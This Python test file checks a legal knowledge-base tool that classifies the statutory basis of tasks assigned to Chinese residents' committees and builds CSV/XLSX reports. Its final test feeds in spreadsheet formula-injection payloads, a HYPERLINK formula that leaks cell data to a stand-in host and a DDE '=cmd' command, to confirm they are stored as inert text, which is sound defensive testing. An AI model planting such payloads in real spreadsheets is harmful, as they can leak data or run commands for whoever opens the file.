"""The task legal-basis audit on real law: a labelled set of tasks written from the statutes
(tests/data/tasks.tsv), reading task lists, and the XLSX report."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from lawkb.core.model import law_key
from lawkb.search import open_searcher
from lawkb.tools.lawindex import LawIndex
from lawkb.tools.taskcheck import CLASSES, check_tasks, read_tasks, report_xlsx

DATA = Path(__file__).parent / "data" / "tasks.tsv"
TARGET = 0.85


def labelled() -> list[tuple[str, str | None, str, list[str]]]:
    rows = []
    for line in DATA.read_text(encoding="utf-8").splitlines():
        if not line.strip() or line.startswith("#"):
            continue
        task, region, cls, deciding = (line.split("\t") + ["", "", "", ""])[:4]
        rows.append((task, region or None, cls, [d for d in deciding.split("|") if d]))
    return rows


def _matches(spec: str, cite: dict) -> bool:
    law, article = spec.split(":")
    return law_key(cite["law_title"]).endswith(law_key(law)) and article in ("*", cite["article_no"])


def test_every_deciding_provision_is_in_the_kb(tools_kb):
    """The labels are facts of the law texts: each deciding provision is a law and article the KB holds."""
    index = LawIndex(tools_kb)
    for task, _, cls, deciding in labelled():
        assert (cls == "未找到依据") == (not deciding), task
        for spec in deciding:
            law_name, article = spec.split(":")
            law = index.find(law_name)
            assert law is not None, f"{task}: no law {law_name} in the KB"
            if article != "*":
                numbers = {a["article_no"] for a in index.articles(index.current(law)["version_id"]).values()}
                assert article in numbers, f"{task}: {law_name} has no {article}"


@pytest.fixture(scope="module")
def audit(tools_kb):
    searcher = open_searcher(tools_kb, use_model=False)
    out = []
    for task, region, cls, deciding in labelled():
        result = check_tasks(tools_kb, [task], region=region, searcher=searcher)
        out.append((task, cls, deciding, result["tasks"][0]))
    return out


def test_task_classes_meet_the_target(audit):
    right = [r for _, cls, _, r in audit if r["class"] == cls]
    misses = [(t, cls, r["class"]) for t, cls, _, r in audit if r["class"] != cls]
    accuracy = len(right) / len(audit)
    print(f"task class accuracy {accuracy:.3f} ({len(right)}/{len(audit)}); misses: {misses}")
    assert len(audit) >= 60 and accuracy >= TARGET, misses
    # every class is given, and rightly, several times: accuracy is not bought by never giving one
    per_class = {c: sum(1 for r in right if r["class"] == c) for c in CLASSES}
    assert min(per_class.values()) >= 5, per_class


def test_deciding_provision_is_among_the_citations(audit):
    good = 0
    for _task, cls, deciding, r in audit:
        cited = [c for c in r["citations"] if c["role"] == "deciding"]
        if r["class"] == cls and (not deciding or any(_matches(s, c) for s in deciding for c in cited)):
            good += 1
    accuracy = good / len(audit)
    print(f"task class with the right deciding provision {accuracy:.3f} ({good}/{len(audit)})")
    assert accuracy >= TARGET


def test_every_result_shows_its_reasoning_and_sentences(audit):
    for _task, _cls, _deciding, r in audit:
        assert r["class"] in CLASSES
        assert r["strength"] in ("明确", "部分对应", "未找到")
        assert r["reasoning"]
        for c in r["citations"]:
            # The deciding sentence is the statute's own words, never a paraphrase.
            assert c["sentence"].replace("\n", "") in c["text"].replace("\n", "") or \
                all(part in c["text"] for part in c["sentence"].split("："))
        if r["class"] != "依法履行职责":
            assert any(c["role"] == "delegation" and c["article_no"] == "第四十三条" for c in r["citations"])


def test_charter_item_decides_own_and_assisting_duties(tools_kb):
    result = check_tasks(tools_kb, ["调解邻里纠纷", "协助做好社区矫正工作", "招商引资"],
                         searcher=open_searcher(tools_kb, use_model=False))
    classes = [t["class"] for t in result["tasks"]]
    assert classes == ["依法履行职责", "依法协助", "未找到依据"]
    assert result["summary"] == {"依法履行职责": 1, "依法协助": 1, "不应由居委会承担": 0, "未找到依据": 1}
    first = result["tasks"][0]["citations"][0]
    assert "城市居民委员会组织法" in first["law_title"] and first["article_no"] == "第十条"
    assert "调解民间纠纷" in first["sentence"]


def test_department_column_and_dict_tasks(tools_kb):
    result = check_tasks(tools_kb, [{"task": "协税护税", "department": "税务所"}],
                         searcher=open_searcher(tools_kb, use_model=False))
    t = result["tasks"][0]
    assert t["department"] == "税务所" and t["class"] == "不应由居委会承担" and "税务" in (t["body"] or "")
    assert any("税收征收管理法" in c["law_title"] for c in t["citations"])


# ---- reading task lists ------------------------------------------------------------------------------

def test_read_csv_utf8_bom_with_header():
    data = "\ufeff任务,交办部门\n协助开展征兵工作,武装部\n调解邻里纠纷,\n".encode()
    assert read_tasks(data, "tasks.csv") == [
        {"task": "协助开展征兵工作", "department": "武装部"}, {"task": "调解邻里纠纷", "department": None}]


def test_read_csv_gbk_without_header():
    data = "协税护税,税务所\n招商引资,经济科\n".encode("gbk")
    assert read_tasks(data, "list.CSV") == [
        {"task": "协税护税", "department": "税务所"}, {"task": "招商引资", "department": "经济科"}]


def test_read_xlsx():
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(["事项", "部门"])
    ws.append(["组织垃圾分类督导", "城管科"])
    ws.append([None, None])
    ws.append(["开具居住证明", None])
    buf = io.BytesIO()
    wb.save(buf)
    assert read_tasks(buf.getvalue(), "tasks.xlsx") == [
        {"task": "组织垃圾分类督导", "department": "城管科"}, {"task": "开具居住证明", "department": None}]


@pytest.mark.parametrize("data,name,status,code,message", [
    (b"PK\x03\x04 not really a workbook", "t.xlsx", 400, "bad_zip", "不是有效的 Office 文件"),
    (b"\xff\xfe\x00\x00garbage\x00", "t.csv", 400, "encoding", "无法识别文件编码"),
    (b"abc\x00def\n", "t.csv", 400, "not_text", "不是文本文件"),
    (b"", "t.csv", 400, "no_tasks", "没有任务"),
    (b"task\n", "t.csv", 400, "no_tasks", "没有任务"),
    (b"x", "t.pdf", 415, "unsupported_type", "不支持的文件类型 .pdf"),
    ("".join(f"任务{i}\n" for i in range(501)).encode(), "t.csv", 413, "too_many_tasks", "超过 500 项上限"),
])
def test_read_bad_files(data, name, status, code, message):
    """Each refusal says why in Chinese, with the HTTP status and a stable code (lawkb.tools.uploads)."""
    from lawkb.tools.uploads import UploadError

    with pytest.raises(UploadError, match=message) as info:
        read_tasks(data, name)
    assert (info.value.status, info.value.code) == (status, code)


def test_read_exactly_the_task_limit():
    data = ("任务\n" + "".join(f"任务{i}\n" for i in range(500))).encode()
    assert len(read_tasks(data, "t.csv")) == 500


def test_report_xlsx_holds_every_task_and_the_summary(tools_kb):
    from openpyxl import load_workbook

    result = check_tasks(tools_kb, ["调解民间纠纷", "协税护税"], searcher=open_searcher(tools_kb, use_model=False))
    wb = load_workbook(io.BytesIO(report_xlsx(result)))
    rows = list(wb["任务依据"].iter_rows(values_only=True))
    assert rows[0][:5] == ("序号", "任务", "交办部门", "结论", "责任主体")
    assert [r[1] for r in rows[1:]] == ["调解民间纠纷", "协税护税"]
    assert rows[1][3] == "依法履行职责" and "第十条" in rows[1][7] and "调解民间纠纷" in rows[1][8]
    assert rows[2][3] == "不应由居委会承担" and "税务" in rows[2][4]
    sheet = list(wb["汇总"].iter_rows(values_only=True))
    counts = [r[:2] for r in sheet[1:5]]
    assert dict(counts) == result["summary"] and all(isinstance(n, int) for _, n in counts)
    by_dept = sheet[sheet.index(("交办部门", *result["summary"], "合计")) + 1]
    assert by_dept == ("（未写部门）", 1, 0, 1, 0, 2)


def test_cli_task_check_json_and_xlsx(tools_kb, tmp_path):
    from lawkb.cli import main

    tasks = tmp_path / "tasks.csv"
    tasks.write_text("任务,部门\n调解邻里纠纷,司法所\n招商引资,经济科\n", encoding="utf-8")
    out = tmp_path / "report.xlsx"
    r = CliRunner().invoke(main, ["task-check", "--kb", tools_kb.locator, "--lexical", "--file", str(tasks),
                                  "--json", "--xlsx", str(out)])
    assert r.exit_code == 0, r.output
    data = json.loads(r.output)
    assert [t["class"] for t in data["tasks"]] == ["依法履行职责", "未找到依据"]
    assert set(data["tasks"][0]) >= {"task", "class", "strength", "body", "citations"}
    assert set(data["tasks"][0]["citations"][0]) >= {"law_title", "article_no", "text", "sentence"}
    assert out.stat().st_size > 1000
    r = CliRunner().invoke(main, ["task-check", "--kb", tools_kb.locator, "--lexical", "协助维护社会治安"])
    assert r.exit_code == 0 and "【依法协助】" in r.output and "不构成法律意见" in r.output
    r = CliRunner().invoke(main, ["task-check", "--kb", tools_kb.locator])
    assert r.exit_code != 0 and "give one TASK or --file" in r.output


def test_a_task_with_no_content_words_is_not_matched_to_anything(tools_kb):
    (t,) = check_tasks(tools_kb, ["开展相关工作"], searcher=open_searcher(tools_kb, use_model=False))["tasks"]
    assert t["class"] == "未找到依据" and t["strength"] == "未找到" and "实义词" in t["reasoning"]


def test_unknown_region_is_refused(tools_kb):
    from lawkb.core.errors import KBError

    with pytest.raises(KBError, match="无法识别的地区"):
        check_tasks(tools_kb, ["调解民间纠纷"], region="不存在的地方", searcher=open_searcher(tools_kb, use_model=False))


def test_report_xlsx_writes_formula_like_tasks_as_text(tools_kb):
    """Task and department cells come from uploads: a cell such as =HYPERLINK(...) or =cmd|... must reach
    the spreadsheet as text, never as a formula it would run on opening."""
    from openpyxl import load_workbook

    hostile = ['=HYPERLINK("http://x/?"&B3,"点击")', "=cmd|' /C calc'!A0", "=1+1", "+SUM(A1)", "@A1"]
    tasks = [{"task": t, "department": "=1+2"} for t in hostile]
    result = check_tasks(tools_kb, tasks, searcher=open_searcher(tools_kb, use_model=False))
    ws = load_workbook(io.BytesIO(report_xlsx(result)))["任务依据"]
    cells = [(ws.cell(row=r, column=2), ws.cell(row=r, column=3)) for r in range(2, 2 + len(hostile))]
    assert [task.value for task, _ in cells] == hostile
    assert all(task.data_type == "s" and dept.data_type == "s" and dept.value == "=1+2" for task, dept in cells)
    assert isinstance(ws.cell(row=2, column=1).value, int)   # numbers stay numbers
